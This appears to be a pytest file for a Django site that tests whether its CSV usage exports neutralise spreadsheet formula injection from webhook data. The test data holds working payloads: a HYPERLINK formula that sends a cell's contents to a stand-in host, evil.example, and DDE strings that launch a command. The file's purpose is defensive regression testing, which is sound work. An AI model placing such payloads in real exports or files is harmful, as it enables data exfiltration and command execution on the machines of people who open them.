"""No CSV the site writes carries a cell a spreadsheet would run as a formula (issue 11, point 7).

The usage exports wrote webhook fields as they came: a message id `=HYPERLINK(...)` ran when a user
opened messages.csv. Every CSV now goes through `pricing_site.spreadsheets.csv_writer`.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from django.urls import reverse

from pricing_site.spreadsheets import spreadsheet_safe
from quotes import testing
from usage.ingest import ingest
from usage.models import Workspace

ROOT = Path(__file__).resolve().parent.parent
NOVEMBER = date(2026, 11, 1)
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|'/Ccalc'!A0"]  # no spaces in the last: a contact's spaces are dropped
# A delivered marketing status whose every free-text field is one of those formulas.
HOSTILE = ('{"object":"whatsapp_business_account","entry":[{"id":"9","changes":[{"field":"messages","value":'
           '{"metadata":{"phone_number_id":%s},"statuses":[{"id":%s,"status":"delivered",'
           '"timestamp":"1793836800","recipient_id":%s,"pricing":{"billable":true,'
           '"pricing_model":"PMP","type":%s,"category":"marketing"}}]}}]}]}')


def json_text(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


@pytest.fixture
def hostile_month(client, db):
    space = Workspace.objects.create(name="Acme", slug="acme")
    line = HOSTILE % (json_text(FORMULAS[2]), json_text(FORMULAS[0]), json_text(FORMULAS[3]), json_text(FORMULAS[1]))
    report = ingest(io.BytesIO(line.encode()), space, "hostile.jsonl")
    assert report.skipped == 0 and report.records == 1
    client.force_login(testing.user("root", superuser=True))
    return client


def rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode())))


def assert_no_formula(table: list[list[str]]) -> None:
    for row in table:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@") or re.fullmatch(r"-?[0-9.]+", cell), (cell, row)


def test_the_messages_export_quotes_every_webhook_field_that_would_be_a_formula(hostile_month):
    table = rows(hostile_month.get(reverse("usage-messages-csv", args=["acme", NOVEMBER])))
    assert_no_formula(table)
    [message] = [dict(zip(table[0], row)) for row in table[1:]]
    assert message["message_id"] == "'" + FORMULAS[0]
    assert message["business_phone_number_id"] == "'" + FORMULAS[2]
    assert message["user"] == "'" + FORMULAS[3]
    # Meta's pricing type is read lower-cased with dashes as underscores (usage.webhooks.normal_category).
    assert message["pricing_type"] == "'" + FORMULAS[1].lower()


def test_the_daily_export_quotes_the_pricing_type_from_the_webhook(hostile_month):
    table = rows(hostile_month.get(reverse("usage-csv", args=["acme", NOVEMBER])))
    assert_no_formula(table)
    assert [dict(zip(table[0], row))["pricing_type"] for row in table[1:]] == ["'" + FORMULAS[1].lower()]


@pytest.mark.parametrize("cell, written", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("India", "India"), ("", ""),
    # Numbers, percentages and Meta's open tier bound are no formula: written as they are.
    ("-12.50", "-12.50"), ("+919811111111", "+919811111111"), ("-5%", "-5%"), ("--", "--"), ("-1,000", "-1,000"),
    (-3, -3),
])
def test_spreadsheet_safe(cell, written):
    assert spreadsheet_safe(cell) == written


def test_every_csv_the_site_writes_goes_through_the_one_helper():
    """A new export that calls csv.writer directly would skip the neutralising: none may."""
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        if path.parts[len(ROOT.parts)] in (".venv", "tests", "bench") or path.name == "spreadsheets.py":
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
